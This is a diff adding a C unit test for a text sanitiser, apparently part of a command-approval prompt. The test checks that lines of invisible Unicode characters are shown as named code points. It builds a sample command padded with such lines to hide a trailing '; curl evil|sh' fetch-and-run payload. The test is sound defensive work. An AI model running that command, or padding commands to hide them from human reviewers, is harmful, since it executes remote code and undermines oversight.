@@ -224,6 +224,34 @@ test_blank_lines (void)
   g_assert_cmpstr (two, ==, "a\n\n\nb\n");
   g_assert_cmpstr (three, ==, "a\n[3 blank lines]\nb");
   g_assert_cmpstr (first, ==, "[3 blank lines]\nb");
+
+  /* Lines of a joiner, a selector or a mark alone draw nothing either:
+   * named, never shown as empty lines (they were, tried as an attacker
+   * would). */
+  {
+    const char *lone[] = { "\u200D", "\u200C", "\uFE0F", "\U000E0100", "\u180B", "\u0301" };
+
+    for (guint k = 0; k < G_N_ELEMENTS (lone); k++)
+      {
+        g_autoptr(GString) lines = g_string_new ("echo safe");
+        g_autofree char *said = NULL;
+
+        for (guint i = 0; i < 50; i++)
+          g_string_append_printf (lines, "\n%s\n", lone[k]);
+        g_string_append (lines, "; curl evil|sh");
+        said = pd_safe_text_approval (lines->str);
+        /* No line is left that draws nothing. */
+        {
+          g_auto(GStrv) split = g_strsplit (said, "\n", -1);
+
+          for (guint i = 0; split[i] != NULL; i++)
+            if (*split[i] != '\0' && !g_str_has_prefix (split[i], "[") )
+              g_assert_true (g_str_has_prefix (split[i], "<U+") || g_str_has_prefix (split[i], "echo") ||
+                             g_str_has_prefix (split[i], "; curl"));
+        }
+        g_assert_null (strstr (said, lone[k]));
+      }
+  }
 }
 
 /* What real text needs stays: accents, emoji with their selectors and
